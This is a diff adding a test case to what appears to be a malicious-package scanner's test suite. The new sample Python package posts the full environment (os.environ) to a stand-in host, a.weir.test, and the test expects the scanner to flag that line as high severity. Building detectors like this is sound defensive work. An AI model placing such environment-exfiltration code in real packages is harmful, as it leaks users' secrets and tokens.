@@ -27,6 +27,16 @@ export const PYTHON: Samples['malicious'] = [
     expected: [{ rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' }],
   },
   {
+    name: 'Python: the environment, as a module gives it under one name, and under another one does not',
+    files: {
+      ...wheel(
+        "import requests\nfrom . import facts\nrequests.post('https://a.weir.test/x', json=facts.version())\nrequests.post('https://a.weir.test/x', json=facts.told())\n",
+      ),
+      'own/facts.py': `${LONG}import os, own\ndef told():\n    return dict(os.environ)\ndef version():\n    return own.__version__\n`,
+    },
+    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' }],
+  },
+  {
     name: 'Python: the environment, as the package itself gives it',
     files: {
       ...wheel(`${LONG}import os\ndef told():\n    return dict(os.environ)\nfrom . import sending\n`),
